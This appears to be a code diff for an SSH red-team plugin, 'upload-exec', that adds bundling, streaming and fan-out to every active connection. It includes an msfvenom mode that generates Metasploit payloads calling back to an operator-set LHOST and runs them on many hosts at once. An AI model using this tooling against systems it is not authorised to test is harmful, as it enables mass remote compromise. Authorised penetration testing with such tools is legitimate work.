+    """Generate msfvenom payloads per architecture and run them on every target.
+
+    Each distinct payload is generated once (or reused from the payload cache)
+    and shared by all hosts that need it. Returns 0 when every host succeeded.
+    """
+    if not targets:
+        console.print("[error]No active connections[/error]")
+        return 1
+    if not shutil.which("msfvenom"):
+        console.print("[error]msfvenom not found in PATH — install Metasploit first[/error]")
+        return 1
+    if not lhost:
+        console.print("[error]LHOST is required for msfvenom payloads. Use --lhost.[/error]")
+        return 1
+
+    arches = detect_arches(targets, max_hosts)
+    groups, failed = plan_payloads(targets, arches, payload)
+    if dry_run:
+        console.print("[bold yellow]DRY-RUN mode — no changes will be made[/bold yellow]\n")
+        for selected, hosts in groups.items():
+            console.print(f"  {selected}: {', '.join(target.name for target in hosts)}")
+        for run in failed:
+            console.print(f"  [warning]{run.target.name}: {run.error}[/warning]")
+        return 0
+
+    jobs: list[FanoutJob] = []
+    with tempfile.TemporaryDirectory(prefix="lazyssh-msfvenom-") as workdir:
+        for index, (selected, hosts) in enumerate(groups.items()):
+            config = MsfvenomConfig(
+                payload=selected,
+                lhost=lhost,
+                lport=lport,
+                format=fmt,
+                encoder=encoder,
+                iterations=iterations,
+            )
+            output_path = os.path.join(workdir, f"payload{index}.{fmt}")
+            if not generate_cached_payload(config, output_path, use_cache=not no_cache):
+                failed.extend(
+                    HostRun(target, error="Payload generation failed") for target in hosts
+                )
+                continue
+            console.print(f"[dim]Handler for {selected}:\n{get_handler_command(config)}[/dim]")
+            archive, entry = build_bundle([output_path])
+            jobs.extend((target, archive, entry) for target in hosts)
+
+    runs = fanout_execute(
+        jobs,
+        timeout=timeout,
+        background=background,
+        no_cleanup=no_cleanup,
+        max_hosts=max_hosts,
+        on_host_done=_report_host,
+    )
+    for run in runs:
+        arch = arches.get(run.target.name)
+        run.arch = arch.raw_arch if isinstance(arch, RemoteArch) else ""
+    order = {target.name: index for index, target in enumerate(targets)}
+    ordered = sorted([*runs, *failed], key=lambda run: order[run.target.name])
+    return _finish_fanout(ordered, "msfvenom payload", use_plain)
+
+
 # ---------------------------------------------------------------------------
 # Usage display (non-interactive)
 # ---------------------------------------------------------------------------
@@ -374,8 +1183,18 @@ def _show_usage(arch: RemoteArch) -> int:
     console.print("  plugin run upload-exec myserver /path/to/binary --no-cleanup")
     console.print("  plugin run upload-exec myserver /path/to/binary --timeout 60")
     console.print("  plugin run upload-exec myserver /path/to/binary --output-file out.txt")
+    console.print("  plugin run upload-exec myserver /path/to/scanner --stream --timeout 0")
     console.print("  plugin run upload-exec myserver /path/to/binary --dry-run\n")
 
+    console.print("[header]Upload & Execute a Bundle (one SSH round trip):[/header]")
+    console.print("  plugin run upload-exec myserver /path/to/binary --with lib/ --with conf.ini")
+    console.print("  plugin run upload-exec myserver /path/to/toolkit/ --entry bin/run.sh")
+    console.print("  plugin run upload-exec myserver /path/to/binary --bundle\n")
+
+    console.print("[header]Fan Out to Every Active Connection:[/header]")
+    console.print("  plugin run upload-exec myserver /path/to/binary --all-hosts")
+    console.print("  plugin run upload-exec myserver --msfvenom --lhost 10.0.0.1 --all-hosts\n")
+
     console.print("[header]Generate & Upload msfvenom Payload:[/header]")
     console.print("  plugin run upload-exec myserver --msfvenom --lhost 10.0.0.1")
     console.print("  plugin run upload-exec myserver --msfvenom --lhost 10.0.0.1 --lport 5555")
@@ -397,12 +1216,19 @@ def _show_usage(arch: RemoteArch) -> int:
     console.print("  --background         Execute in background (nohup)")
     console.print("  --timeout SECS       Execution timeout (default: 300)")
     console.print("  --output-file PATH   Save remote output to local file")
+    console.print("  --stream             Show output live; Ctrl-C stops the remote process")
+    console.print("  --bundle             Send as one tar bundle in a single SSH channel")
+    console.print("  --with PATH          Extra file or directory for the bundle (repeatable)")
+    console.print("  --entry PATH         Entry point inside a bundled directory")
+    console.print("  --all-hosts          Run on every active connection concurrently")
+    console.print("  --max-hosts N        Hosts handled at once with --all-hosts (default: 8)")
     console.print("  --msfvenom           Generate msfvenom payload instead of uploading a file")
     console.print("  --payload TEXT       Override msfvenom payload string")
     console.print("  --lhost IP           LHOST for msfvenom (required with --msfvenom)")
     console.print("  --lport PORT         LPORT for msfvenom (default: 4444)")
     console.print("  --encoder TEXT       Msfvenom encoder")
     console.print("  --iterations N       Encoder iterations (default: 1)")
+    console.print("  --no-cache           Regenerate instead of reusing a cached payload")
     console.print("  --format FMT         Output format: elf, raw, py, sh (default: elf)")
     console.print("  --dry-run            Show plan without executing\n")
 
@@ -420,7 +1246,9 @@ def build_parser() -> argparse.ArgumentParser:
         prog="upload-exec",
         description="Upload and execute binaries on remote hosts with msfvenom support",
     )
-    parser.add_argument("file_path", nargs="?", default=None, help="Local file to upload")
+    parser.add_argument(
+        "file_path", nargs="?", default=None, help="Local file or directory to upload"
+    )
     parser.add_argument(
         "--args", dest="remote_args", default="", help="Arguments for remote binary"
     )
@@ -432,6 +1260,35 @@ def build_parser() -> argparse.ArgumentParser:
         "--timeout", type=int, default=300, help="Execution timeout in seconds (default: 300)"
     )
     parser.add_argument("--output-file", default=None, help="Save remote output to local file")
+    parser.add_argument(
+        "--stream",
+        action="store_true",
+        help=(
+            "Show output live and log it as it arrives; --timeout 0 disables the timeout "
+            "(not with --all-hosts)"
+        ),
+    )
+    parser.add_argument(
+        "--bundle", action="store_true", help="Upload and execute as one tar bundle"
+    )
+    parser.add_argument(
+        "--with",
+        dest="extra_paths",
+        action="append",
+        default=[],
+        metavar="PATH",
+        help="Extra file or directory to bundle (implies --bundle)",
+    )
+    parser.add_argument("--entry", default=None, help="Entry point inside a bundled directory")
+    parser.add_argument(
+        "--all-hosts", action="store_true", help="Run on every active connection concurrently"
+    )
+    parser.add_argument(
+        "--max-hosts",
+        type=int,
+        default=DEFAULT_FANOUT_CONCURRENCY,
+        help=f"Hosts handled at once with --all-hosts (default: {DEFAULT_FANOUT_CONCURRENCY})",
+    )
 
     # Msfvenom options
     parser.add_argument("--msfvenom", action="store_true", help="Generate msfvenom payload")
@@ -442,6 +1299,11 @@ def build_parser() -> argparse.ArgumentParser:
     )
     parser.add_argument("--encoder", default=None, help="Msfvenom encoder")
     parser.add_argument("--iterations", type=int, default=1, help="Encoder iterations (default: 1)")
+    parser.add_argument(
+        "--no-cache",
+        action="store_true",
+        help="Regenerate the payload instead of reusing a cached one",
+    )
     parser.add_argument(
         "--format",
         dest="fmt",
@@ -458,43 +1320,100 @@ def main() -> int:  # pragma: no cover - CLI entry point
     parser = build_parser()
     args = parser.parse_args()
 
-    # Detect remote architecture
+    # Fan-out mode: every active connection, each over its own control master
+    if args.all_hosts:
+        if args.stream:
+            parser.error("--stream cannot be combined with --all-hosts")
+        ui_config = get_ui_config()
+        use_plain = bool(ui_config.get("plain_text") or ui_config.get("no_rich"))
+        if args.msfvenom:
+            return msfvenom_fanout(
+                all_targets(),
+                payload=args.payload,
+                lhost=args.lhost,
+                lport=args.lport,
+                encoder=args.encoder,
+                iterations=args.iterations,
+                fmt=args.fmt,
+                no_cleanup=args.no_cleanup,
+                background=args.background,
+                timeout=args.timeout,
+                max_hosts=args.max_hosts,
+                dry_run=args.dry_run,
+                use_plain=use_plain,
+                no_cache=args.no_cache,
+            )
+        if args.file_path is None:
+            console.print("[error]--all-hosts needs a file to upload or --msfvenom[/error]")
+            return 1
+        return upload_fanout(
+            all_targets(),
+            [args.file_path, *args.extra_paths],
+            entry=args.entry,
+            remote_args=args.remote_args,
+            no_cleanup=args.no_cleanup,
+            background=args.background,
+            timeout=args.timeout,
+            max_hosts=args.max_hosts,
+            dry_run=args.dry_run,
+            use_plain=use_plain,
+        )
+
+    # File uploads need no architecture, so they stay a single SSH channel
+    if args.file_path is not None and not args.msfvenom:
+        # Bundled mode: directories and extra files travel as one tar stream
+        if args.bundle or args.extra_paths or args.entry or os.path.isdir(args.file_path):
+            return bundle_and_execute(
+                [args.file_path, *args.extra_paths],
+                entry=args.entry,
+                remote_args=args.remote_args,
+                no_cleanup=args.no_cleanup,
+                background=args.background,
+                timeout=args.timeout,
+                output_file=args.output_file,
+                dry_run=args.dry_run,
+                stream=args.stream,
+            )
+
+        # Upload-and-execute mode
+        return upload_and_execute(
+            args.file_path,
+            remote_args=args.remote_args,
+            no_cleanup=args.no_cleanup,
+            background=args.background,
+            timeout=args.timeout,
+            output_file=args.output_file,
+            dry_run=args.dry_run,
+            stream=args.stream,
+        )
+
+    # Detect remote architecture, from the connection's cached fingerprint when fresh
     try:
-        arch = detect_remote_arch()
+        arch = get_fingerprint().remote_arch()
     except RuntimeError as exc:
         console.print(f"[error]Architecture detection failed: {exc}[/error]")
         return 1
 
     # No arguments at all → show usage with detected architecture
-    if args.file_path is None and not args.msfvenom:
+    if not args.msfvenom:
         return _show_usage(arch)
 
     # Msfvenom mode
-    if args.msfvenom:
-        return msfvenom_mode(
-            arch,
-            payload=args.payload,
-            lhost=args.lhost,
-            lport=args.lport,
-            encoder=args.encoder,
-            iterations=args.iterations,
-            fmt=args.fmt,
-            no_cleanup=args.no_cleanup,
-            background=args.background,
-            timeout=args.timeout,
-            output_file=args.output_file,
-            dry_run=args.dry_run,
-        )
-
-    # Upload-and-execute mode
-    return upload_and_execute(
-        args.file_path,
-        remote_args=args.remote_args,
+    return msfvenom_mode(
+        arch,
+        payload=args.payload,
+        lhost=args.lhost,
+        lport=args.lport,
+        encoder=args.encoder,
+        iterations=args.iterations,
+        fmt=args.fmt,
         no_cleanup=args.no_cleanup,
         background=args.background,
         timeout=args.timeout,
         output_file=args.output_file,
         dry_run=args.dry_run,
+        no_cache=args.no_cache,
+        stream=args.stream,
     )
 
 